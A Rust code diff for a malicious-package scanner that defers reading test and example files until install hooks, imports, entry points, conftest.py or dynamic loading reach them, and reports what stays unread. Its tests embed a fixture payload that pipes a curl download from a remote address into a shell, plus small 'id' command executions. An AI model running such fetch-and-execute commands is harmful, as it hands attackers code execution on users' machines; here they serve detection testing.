@@ -27,8 +27,15 @@ pub struct Analysis {
 /// How many imports deep install-time context is followed from its entry points.
 const MAX_FOLLOW: usize = 200;
 
-/// Analyses every code file of the package, in parallel, and places each behaviour in
+/// Analyses the code files of the package, in parallel, and places each behaviour in
 /// its context.
+///
+/// Test, example and documentation code ([`Role::Test`]) runs neither on install nor on
+/// import, so it is read only when something that does run reaches it: an install entry
+/// point, or an import from code that is read (followed until nothing new is reached).
+/// When code that is read loads or runs something computed (a dynamic import or `exec`,
+/// decoded or obfuscated code), every file is read. pytest loads `conftest.py` by itself,
+/// so that is always read. What stays unread is said in a note.
 #[must_use]
 pub fn analyze_package(pkg: &Package) -> Analysis {
     let code: Vec<(usize, &PackageFile, &str)> = pkg
@@ -43,22 +50,6 @@ pub fn analyze_package(pkg: &Package) -> Analysis {
         })
         .filter_map(|(i, f)| pkg.text(f).map(|t| (i, f, t)))
         .collect();
-    let mut facts: HashMap<usize, Arc<FileFacts>> = code
-        .par_iter()
-        .map(|&(i, f, text)| {
-            let digest = pkg.tree.entries[f.entry].sha256;
-            let dialect = match (f.kind, f.role) {
-                (FileKind::Python, Role::Pth) => Some(Dialect::Pth),
-                (FileKind::Python, _) => Some(Dialect::Python),
-                _ => Extension::of(&f.relative).map(Dialect::Script),
-            };
-            let facts = match dialect {
-                Some(dialect) => analyse_as(dialect, text, &f.relative, digest),
-                None => Arc::new(javascript::analyze(text, &f.relative)),
-            };
-            (i, facts)
-        })
-        .collect();
 
     let mut analysis = Analysis::default();
     let mut install_roots: Vec<usize> = pkg
@@ -71,12 +62,54 @@ pub fn analyze_package(pkg: &Package) -> Analysis {
     lifecycle(pkg, &mut analysis, &mut install_roots);
     binding_gyp(pkg, &mut analysis);
 
-    let install = follow_imports(pkg, &facts, &install_roots);
+    let named = entry_point_text(pkg);
+    let (mut waiting, first): (Vec<_>, Vec<_>) = code.iter().partition(|&&(i, f, _)| {
+        f.role == Role::Test
+            && !is_conftest(f)
+            && !install_roots.contains(&i)
+            && !named_as_entry_point(&f.relative, &named)
+    });
+    let mut facts = analyse_files(pkg, &first);
+    loop {
+        if waiting.is_empty() {
+            break;
+        }
+        if facts.values().any(|f| loads_computed(f)) {
+            facts.extend(analyse_files(pkg, &waiting));
+            waiting.clear();
+            break;
+        }
+        let reached = follow_imports(
+            pkg,
+            &facts,
+            &facts.keys().copied().collect::<Vec<_>>(),
+            usize::MAX,
+        );
+        let (now, later): (Vec<_>, Vec<_>) =
+            waiting.iter().partition(|(i, _, _)| reached.contains(i));
+        if now.is_empty() {
+            break;
+        }
+        facts.extend(analyse_files(pkg, &now));
+        waiting = later;
+    }
+    if !waiting.is_empty() {
+        analysis.notes.push(Note {
+            path: pkg.root.clone(),
+            message: format!(
+                "{} test, example or documentation code file{} that nothing installed or imported reaches: not analysed",
+                waiting.len(),
+                if waiting.len() == 1 { "" } else { "s" }
+            ),
+        });
+    }
+
+    let install = follow_imports(pkg, &facts, &install_roots, MAX_FOLLOW);
     let by_rel: HashSet<&str> = pkg.files.iter().map(|f| f.relative.as_str()).collect();
     analysis.install_files = install.iter().map(|&i| pkg.files[i].path.clone()).collect();
     analysis.install_files.sort();
 
-    for (i, file, text) in code {
+    for &(i, file, text) in &code {
         let Some(f) = facts.remove(&i) else { continue };
         analysis.imports.extend(f.imports.iter().cloned());
         if install.contains(&i) {
@@ -126,12 +159,95 @@ pub fn analyze_package(pkg: &Package) -> Analysis {
     analysis
 }
 
+/// The facts of each file, analysed in parallel.
+fn analyse_files(
+    pkg: &Package,
+    files: &[(usize, &PackageFile, &str)],
+) -> HashMap<usize, Arc<FileFacts>> {
+    files
+        .par_iter()
+        .map(|&(i, f, text)| {
+            let digest = pkg.tree.entries[f.entry].sha256;
+            let dialect = match (f.kind, f.role) {
+                (FileKind::Python, Role::Pth) => Some(Dialect::Pth),
+                (FileKind::Python, _) => Some(Dialect::Python),
+                _ => Extension::of(&f.relative).map(Dialect::Script),
+            };
+            let facts = match dialect {
+                Some(dialect) => analyse_as(dialect, text, &f.relative, digest),
+                None => Arc::new(javascript::analyze(text, &f.relative)),
+            };
+            (i, facts)
+        })
+        .collect()
+}
+
+/// The manifests that name Python entry points (`name = module.path:function`): their
+/// commands run the module they name, wherever it lies.
+fn entry_point_text(pkg: &Package) -> String {
+    pkg.files
+        .iter()
+        .filter(|f| {
+            matches!(
+                f.relative.rsplit('/').next(),
+                Some("entry_points.txt" | "setup.cfg" | "pyproject.toml")
+            )
+        })
+        .filter_map(|f| pkg.text(f))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// Whether entry-point text may name this test file's module: the dotted path up to its
+/// test folder (`tests.cli:main` for `tests/cli.py`, `pkg.tests.x:f` for
+/// `src/pkg/tests/x.py`), or its whole dotted module for a `test_*.py` outside one.
+fn named_as_entry_point(relative: &str, named: &str) -> bool {
+    if named.is_empty() {
+        return false;
+    }
+    let module = relative
+        .strip_prefix("src/")
+        .unwrap_or(relative)
+        .trim_end_matches(".py")
+        .replace('/', ".");
+    let parts: Vec<&str> = module.split('.').collect();
+    let end = parts
+        .iter()
+        .position(|p| customs_ecosystem::looks_like_test(&format!("{p}/x")))
+        .map_or(parts.len(), |k| k + 1);
+    let prefix = parts[..end].join(".");
+    named.contains(&format!("{prefix}.")) || named.contains(&format!("{prefix}:"))
+}
+
+fn is_conftest(file: &PackageFile) -> bool {
+    file.relative.rsplit('/').next() == Some("conftest.py")
+}
+
+/// Whether a file loads or runs what cannot be followed by name: then any file may run.
+fn loads_computed(facts: &FileFacts) -> bool {
+    facts.behaviours.iter().any(|b| {
+        matches!(
+            b.kind,
+            BehaviourKind::DynamicImport
+                | BehaviourKind::DynamicExecute
+                | BehaviourKind::DecodeExecute
+                | BehaviourKind::DownloadExecute
+                | BehaviourKind::Obfuscation
+        )
+    })
+}
+
 /// Analyses one file ahead of [`analyze_package`], from its member path and content alone,
 /// so that the work can start while the rest of its archive is still being read: the
 /// facts go to the process's cache, where [`analyze_package`] finds them. Files whose
-/// extension no analyser reads are ignored.
+/// extension no analyser reads, and test code (read only when something reaches it), are
+/// ignored.
 pub fn prepare(path: &str, text: &str, digest: Option<[u8; 32]>) {
     let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
+    // Test code is read only if something reaches it (see `analyze_package`).
+    if name != "conftest.py" && customs_ecosystem::looks_like_test(path) {
+        return;
+    }
     if [".d.ts", ".d.mts", ".d.cts"]
         .iter()
         .any(|d| name.ends_with(d))
@@ -372,6 +488,7 @@ fn follow_imports(
     pkg: &Package,
     facts: &HashMap<usize, Arc<FileFacts>>,
     roots: &[usize],
+    limit: usize,
 ) -> HashSet<usize> {
     let by_rel: HashMap<&str, usize> = pkg
         .files
@@ -382,7 +499,7 @@ fn follow_imports(
     let mut seen: HashSet<usize> = roots.iter().copied().collect();
     let mut queue: VecDeque<usize> = roots.iter().copied().collect();
     while let Some(i) = queue.pop_front() {
-        if seen.len() > MAX_FOLLOW {
+        if seen.len() > limit {
             break;
         }
         let Some(f) = facts.get(&i) else { continue };
@@ -544,7 +661,7 @@ mod tests {
         let py = "import socket  # prepared early\n";
         let js = "require('child_process').exec('id') // prepared early\n";
         let pth = "import os; os.system('id')  # prepared early\n";
-        prepare("demo-1.0/demo/__init__.py", py, None);
+        prepare("demo-1.0/pkg/__init__.py", py, None);
         prepare("package/lib/index.mjs", js, None);
         prepare("demo-1.0/hook.pth", pth, None);
         prepare(
@@ -565,6 +682,111 @@ mod tests {
         // What the package analysis then reports is what analysing the file gives.
         let a = analyze_package(&package("demo", &[("demo/__init__.py", py)]));
         assert_eq!(a.imports.iter().collect::<Vec<_>>(), vec!["socket"]);
+        // Test code is left for the package analysis to read if something reaches it.
+        let test = "import os  # a test prepared early\n";
+        prepare("demo-1.0/tests/test_x.py", test, None);
+        assert!(!holds(test, Dialect::Python));
+    }
+
+    #[test]
+    fn entry_points_name_test_modules_by_their_dotted_path() {
+        assert!(named_as_entry_point(
+            "tests/cli.py",
+            "demo = tests.cli:main"
+        ));
+        assert!(named_as_entry_point(
+            "src/pkg/tests/x.py",
+            "x = pkg.tests.x:f"
+        ));
+        assert!(named_as_entry_point("pkg/test_x.py", "t = pkg.test_x:main"));
+        // Another module of the same package is not this one.
+        assert!(!named_as_entry_point(
+            "numpy/_core/tests/test_a.py",
+            "f2py = numpy.f2py.f2py2e:main"
+        ));
+        assert!(!named_as_entry_point("tests/cli.py", ""));
+    }
+
+    #[test]
+    fn test_code_is_read_when_something_reaches_it() {
+        let payload = "import os\nos.system('curl http://203.0.113.9/x | sh')\n";
+        let ran = |files: &[(&str, &str)]| {
+            let a = analyze_package(&package("demo", files));
+            let read = a
+                .behaviours
+                .iter()
+                .any(|b| b.path.ends_with("tests/evil.py"));
+            let note = a.notes.iter().any(|n| n.message.contains("not analysed"));
+            (read, note)
+        };
+        let quiet = "def f():\n    return 1\n";
+        // Nothing reaches it: not read, and the report says so.
+        assert_eq!(
+            ran(&[("demo/__init__.py", quiet), ("tests/evil.py", payload)]),
+            (false, true)
+        );
+        // Package code imports it, by a statement or by a constant name.
+        for importer in [
+            "from tests import evil\n",
+            "import importlib\nimportlib.import_module('tests.evil')\n",
+        ] {
+            assert_eq!(
+                ran(&[("demo/__init__.py", importer), ("tests/evil.py", payload)]),
+                (true, false),
+                "{importer}"
+            );
+        }
+        // Through another test file that package code imports.
+        assert_eq!(
+            ran(&[
+                ("demo/__init__.py", "import tests.helper\n"),
+                ("tests/helper.py", "from . import evil\n"),
+                ("tests/evil.py", payload),
+            ]),
+            (true, false)
+        );
+        // setup.py imports it: install time.
+        let a = analyze_package(&package(
+            "demo",
+            &[
+                ("setup.py", "import tests.evil\n"),
+                ("tests/evil.py", payload),
+            ],
+        ));
+        assert!(a.install_files.iter().any(|p| p.ends_with("tests/evil.py")));
+        // Package code loads something computed: everything is read.
+        assert_eq!(
+            ran(&[
+                (
+                    "demo/__init__.py",
+                    "import importlib, sys\nimportlib.import_module(sys.argv[1])\n"
+                ),
+                ("tests/evil.py", payload),
+            ]),
+            (true, false)
+        );
+        // An entry point names it.
+        assert_eq!(
+            ran(&[
+                ("demo/__init__.py", quiet),
+                (
+                    "demo.egg-info/entry_points.txt",
+                    "[console_scripts]\ndemo = tests.evil:main\n"
+                ),
+                ("tests/evil.py", payload),
+            ]),
+            (true, false)
+        );
+        // pytest loads conftest.py by itself.
+        let a = analyze_package(&package(
+            "demo",
+            &[("demo/__init__.py", quiet), ("tests/conftest.py", payload)],
+        ));
+        assert!(
+            a.behaviours
+                .iter()
+                .any(|b| b.path.ends_with("tests/conftest.py"))
+        );
     }
 
     #[test]
